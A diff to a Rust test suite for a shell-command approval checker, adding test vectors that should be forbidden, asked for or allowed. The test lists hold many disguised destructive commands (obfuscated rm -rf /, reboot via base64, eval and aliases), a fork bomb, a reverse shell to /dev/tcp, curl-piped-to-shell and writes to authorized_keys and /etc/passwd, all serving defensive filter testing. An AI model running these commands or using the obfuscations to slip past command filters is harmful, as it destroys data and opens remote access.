@@ -11,6 +11,15 @@ struct Vector {
     verdict: String,
 }
 
+/// Writes out a line.
+type Written = fn() -> String;
+
+/// Vectors that are too long to be kept.
+const LONG: &[(&str, Written)] = &[
+    ("<4097 chars>", || "a".repeat(4097)),
+    ("<4098 chars>", || "a ".repeat(2049)),
+];
+
 /// Where we judge differently on purpose: the command, our verdict and why.
 const DIFFERENCES: &[(&str, &str, &str)] = &[
     (
@@ -39,6 +48,16 @@ const DIFFERENCES: &[(&str, &str, &str)] = &[
         "forbidden",
         "a condition does not make it another command",
     ),
+    (
+        "sudo -s",
+        "needed",
+        "it opens a shell; `-S` would take a password from input",
+    ),
+    (
+        "<4097 chars>",
+        "free",
+        "a long word is no danger; what cannot be judged is refused from 100,000 bytes on",
+    ),
     ("sudo ls", "needed", "the superuser can do anything"),
     ("sudo -i", "needed", "the superuser can do anything"),
 ];
@@ -55,6 +74,13 @@ fn verdict(command: &str) -> &'static str {
 fn verdicts_agree_except_where_we_mean_to_differ() {
     let vectors = include_str!("approval_vectors.json");
     let vectors: Vec<Vector> = serde_json::from_str(vectors).unwrap();
+    assert_eq!(vectors.len(), 118);
+    for (command, ..) in DIFFERENCES {
+        assert!(
+            vectors.iter().any(|vector| vector.command == *command),
+            "{command}"
+        );
+    }
     let mut wrong = Vec::new();
     for Vector {
         command,
@@ -63,7 +89,8 @@ fn verdicts_agree_except_where_we_mean_to_differ() {
     {
         let difference = DIFFERENCES.iter().find(|(other, ..)| other == command);
         let expected = difference.map_or(known.as_str(), |(_, ours, _)| ours);
-        let ours = verdict(command);
+        let long = LONG.iter().find(|(name, _)| name == command);
+        let ours = verdict(&long.map_or_else(|| command.clone(), |(_, written)| written()));
         if ours != expected {
             wrong.push(format!("{command}: {ours}, expected {expected}"));
         }
@@ -113,6 +140,71 @@ fn catastrophes_are_forbidden_in_disguise_too() {
             "bomb() { bomb | bomb & }; bomb",
             "x=$(echo / | xargs rm -rf /)",
             "kill -s KILL -1",
+            "a=rm; b=/; $a -rf $b",
+            "x=(rm -rf /); \"${x[@]}\"",
+            "f() { rm -rf \"$1\"; }; f /",
+            "function f { $@; }; f reboot",
+            "alias x=reboot\nx",
+            "alias x='rm -rf /'",
+            "for d in a etc; do rm -rf /$d; done",
+            "{rm,-rf,/}",
+            "r{m..m} -rf /",
+            "rm -rf /et[c]",
+            "/sbin/reb??t",
+            "cd / && rm -rf *",
+            "cd /tmp; cd ..; rm -rf etc",
+            "case x in x) reboot;; esac",
+            "echo $(case x in x) reboot;; esac)",
+            "cat <<EOF\n$(reboot)\nEOF",
+            "cat <<A \"x\n\"; reboot; : \"\nA\n\"\nA",
+            "echo $((1<<2))\nreboot",
+            "(( x = 1 << 2 ))\nreboot",
+            "echo reboot | sh",
+            "echo cmVib290 | base64 -d | sh",
+            "bash -c \"$(echo cmVib290 | base64 --decode)\"",
+            "echo 7265626f6f74 | xxd -r -p | bash",
+            "echo toober | rev | sh",
+            "echo erobbg | tr a-z n-za-m | sh",
+            "printf '\\162eboot' | sh",
+            "bash -ce reboot",
+            "bash -c '$0' reboot",
+            "bash -c 'rm -rf \"$1\"' x /",
+            "bash <(echo reboot)",
+            "source <(printf reboot)",
+            "sh <<< reboot",
+            "echo reboot | at now",
+            "trap reboot EXIT",
+            "echo / | xargs rm -rf",
+            "echo reboot | xargs -I{} sh -c '{}'",
+            "find . -exec sh -c 'rm -rf /' \\;",
+            "awk 'BEGIN{system(\"reboot\")}'",
+            "python3 -c 'import os; os.system(\"rm -rf /\")'",
+            "perl -e 'exec \"reboot\"'",
+            "r$@m -rf /",
+            "\"$@\" reboot",
+            "env -S'reboot now'",
+            "tar cf x --checkpoint=1 --checkpoint-action=exec=reboot y",
+            "git -c alias.x='!reboot' x",
+            "echo b > /proc/sysrq-trigger",
+            "x=toober; read y <<< reboot; $y",
+            "printf -v x reboot; $x",
+            "set -- reboot; $1",
+            "x=xreboot; ${x#x}",
+            "x=ReBoot; ${x,,}",
+            "x=reb00t; ${x//0/o}",
+            "n=x; x=reboot; ${!n}",
+            "curl x |\nreboot",
+            "echo p | sudo -S ls",
+            "systemd-run reboot",
+            "flock /tmp/l -c reboot",
+            "su -c 'rm -rf /'",
+            "coproc reboot",
+            "exec 3>/dev/sda",
+            "[ -f x ] && reboot || true",
+            "until reboot; do :; done",
+            "select x in a; do reboot; done",
+            "time -p reboot",
+            "eval \"$(echo 'reb''oot')\"",
         ],
     );
 }
@@ -137,6 +229,21 @@ fn risky_commands_are_asked_for() {
             "cd x && rm -rf build",
             "rm /home/me/file",
             "su -c ls",
+            "curl x | { true; sh; }",
+            "curl x | (cd /tmp; bash)",
+            "curl x |\n sh",
+            "run() { sh; }; curl x | run",
+            "find ~ -name '*.pyc' -delete",
+            "ssh host reboot",
+            "mv ~ /tmp/x",
+            "crontab jobs",
+            "cd /etc && cp x hosts",
+            "cat x | tee -a ~/.ssh/authorized_keys",
+            "dd of=/etc/passwd",
+            "curl -o /usr/local/bin/x http://x",
+            "bash -i > /dev/tcp/1.2.3.4/5",
+            "git -C x branch -D y",
+            "\"$UNKNOWN_PROGRAM\" x",
         ],
     );
 }
@@ -167,6 +274,25 @@ fn everyday_commands_are_free() {
             "perl script.pl",
             "X=$(pwd) make",
             "curl -s http://x | jq .",
+            "echo 'rm -rf /' # rm -rf /",
+            "# reboot",
+            "grep -n \"reboot|shutdown\" log",
+            "git log --grep='rm -rf /'",
+            "git branch --delete merged",
+            "files=(reboot.c shutdown.c); wc -l \"${files[@]}\"",
+            "alias ll='ls -l'; ll",
+            "walk() { for x in \"$1\"/*; do walk \"$x\"; done; }; walk .",
+            "x=$((1 << 4)); echo $x",
+            "if [ -d x ]; then echo reboot; fi",
+            "python3 <(echo 'x') --help",
+            "man reboot",
+            "which reboot shutdown",
+            "cat <<'EOF' > notes.md\n$(reboot)\nEOF",
+            "crontab -l",
+            "awk '{print $1}' f",
+            "tar czf x.tgz src",
+            "export PATH=$PATH:/opt/bin",
+            "touch {a,b}.{c,d}",
             "",
         ],
     );
@@ -202,7 +328,38 @@ proptest! {
 fn a_line_made_to_take_long_is_judged_soon() {
     let started = std::time::Instant::now();
     for piece in [
-        "! ", "a(){", "<<a\na\n", "$(", "`", "sudo ", "eval ", "a=b ", "{ ", "\"", "-c ", "x|",
+        "! ",
+        "a(){",
+        "<<a\na\n",
+        "$(",
+        "`",
+        "sudo ",
+        "eval ",
+        "a=b ",
+        "{ ",
+        "\"",
+        "-c ",
+        "x|",
+        "((",
+        "f(){ f;};f;",
+        "$a",
+        "a=$a$a;",
+        "{a,b}",
+        "x=({",
+        "<(",
+        "<<<a ",
+        "if ",
+        "case ",
+        "'",
+        "echo a|",
+        "tr a b|",
+        "${x:-",
+        "$'\\x",
+        "* ",
+        "[a-z",
+        "f(){ g;};g(){ f;f;};f;",
+        "alias a=a;a;",
+        "for x in a b;do $x$x;",
     ] {
         let line = piece.repeat(100_000 / piece.len());
         consent_for(&line);
